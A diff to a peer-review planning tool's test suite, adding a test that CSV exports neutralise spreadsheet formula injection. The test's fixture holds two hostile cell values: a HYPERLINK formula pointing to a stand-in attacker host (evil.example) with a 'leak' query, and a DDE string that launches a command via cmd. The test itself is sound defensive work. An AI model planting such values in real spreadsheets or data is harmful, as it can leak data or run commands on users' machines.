@@ -56,3 +56,18 @@ def test_tasks_as_json_for_scripts(planned):
     tasks = json.loads(result.stdout)
     assert {t["assignee_email"] for t in tasks} == {"owen.fletcher@donriver.example.org", "joe.hartley@peakedge.example.org", "daniel.okafor@coordinator.example.org"}
     assert all(t["kind"] == "respond_to_assignment" and t["review_id"] == 1 and t["due"] == "2023-11-27" for t in tasks)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path):
+    from conftest import EXAMPLE
+
+    formula = '=HYPERLINK("http://evil.example/?leak","Click me")'
+    text = EXAMPLE.read_text().replace("name: Steel Valley Academy Trust", "name: '" + formula + "'").replace("name: Peak Edge Schools Trust", "name: \"+cmd|' /C calc'!A0\"")
+    path = tmp_path / "hostile.yaml"
+    path.write_text(text)
+    env = {"PEER_REVIEW_DATABASE_URL": f"sqlite:///{tmp_path / 'h.db'}"}
+    assert run_cli("partnership", "load", path, cwd=tmp_path, env=env).returncode == 0
+    assert run_cli("plan", cwd=tmp_path, env=env).returncode == 0
+    shown = run_cli("status", "--csv", cwd=tmp_path, env=env)
+    hosts = {row["host"] for row in csv.DictReader(io.StringIO(shown.stdout))}
+    assert hosts == {"'" + formula, "'+cmd|' /C calc'!A0", "Don River Learning Partnership"}
